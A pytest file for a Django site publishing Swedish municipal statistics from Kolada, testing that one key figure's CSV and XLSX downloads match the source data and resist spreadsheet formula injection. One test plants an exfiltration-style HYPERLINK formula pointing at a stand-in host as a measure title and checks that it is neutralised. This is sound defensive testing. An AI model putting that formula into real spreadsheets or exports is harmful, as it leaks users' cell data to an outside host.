"""A municipality's series of one key figure as CSV and XLSX: the values as in Kolada, and no formula injection."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from millennium.places.models import Area
from millennium.statistics.models import ImportBatch, Measure, Observation, Source
from millennium.web.downloads import COLUMNS, safe_text
from tests.web.test_measure_page import KPI, MALMO, kolada

pytestmark = pytest.mark.django_db

BASE = f"/kommun/{MALMO}/nyckeltal/{KPI}"


def read_csv(response) -> list[dict]:
    text = response.content.decode("utf-8")
    assert not text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_holds_every_value_as_in_kolada(client):
    batch = Observation.objects.filter(measure__code=KPI, area__code=MALMO).values_list("batch_id", flat=True)[0]

    response = client.get(f"{BASE}/data.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{MALMO}-{KPI}.csv"'
    assert response.content.decode().splitlines()[0] == ",".join(COLUMNS)
    rows = read_csv(response)
    assert {(r["kommunkod"], int(r["år"]), r["kön"]): float(r["värde"]) for r in rows} == kolada(KPI, {MALMO})
    first = rows[0]
    assert (first["kommun"], first["nyckeltal"], first["titel"], first["källa"], first["import"]) == (
        "Malmö", KPI, "Invånare 25-64 år med eftergymnasial utbildning, andel (%)", "Källa: Kolada (RKA)", str(batch))


def test_xlsx_holds_numbers_as_numbers_and_a_source_sheet(client):
    response = client.get(f"{BASE}/data.xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="{MALMO}-{KPI}.xlsx"'
    book = load_workbook(io.BytesIO(response.content))
    data = list(book["Data"].iter_rows(values_only=True))
    assert list(data[0]) == COLUMNS
    assert all(isinstance(r[4], int) and isinstance(r[6], float) and isinstance(r[8], int) for r in data[1:])
    assert {(r[0], r[4], r[5]): r[6] for r in data[1:]} == kolada(KPI, {MALMO})
    source = dict(book["Källa"].iter_rows(values_only=True))
    assert source["Källa"] == "Källa: Kolada (RKA)"
    assert source["Källans webbplats"] == "https://www.kolada.se/"
    assert source["Definition"].startswith("Invånare med eftergymnasial utbildning 25-64 år")
    assert source["Hämtad från"] == f"http://testserver{BASE}/data.xlsx"


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text
    assert safe_text("Malmö") == "Malmö"


def test_downloads_are_safe_against_formula_injection(client):
    """A key figure whose title is a formula, and a negative value: the title is text, the value a number."""
    evil = '=HYPERLINK("http://example.org/?"&A1,"Klicka")'
    measure = Measure.objects.create(source=Source.objects.get(code="kolada"), code="X00001", title_sv=evil)
    Observation.objects.create(measure=measure, area=Area.objects.get(code=MALMO), year=2020, sex="T", value=-1.5,
                               batch=ImportBatch.objects.filter(source__code="kolada").first())

    rows = read_csv(client.get(f"/kommun/{MALMO}/nyckeltal/X00001/data.csv"))
    xlsx = client.get(f"/kommun/{MALMO}/nyckeltal/X00001/data.xlsx").content

    assert [(r["titel"], r["värde"]) for r in rows] == [("'" + evil, "-1.5")]
    sheet = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cell = load_workbook(io.BytesIO(xlsx))["Data"]["D2"]
    assert (cell.value, cell.data_type) == (evil, "s")
    assert load_workbook(io.BytesIO(xlsx))["Data"]["G2"].value == -1.5


def test_downloads_of_unknown_municipality_or_key_figure_are_404(client):
    for suffix in ("csv", "xlsx"):
        assert client.get(f"/kommun/9999/nyckeltal/{KPI}/data.{suffix}").status_code == 404
        assert client.get(f"/kommun/{MALMO}/nyckeltal/N99999/data.{suffix}").status_code == 404
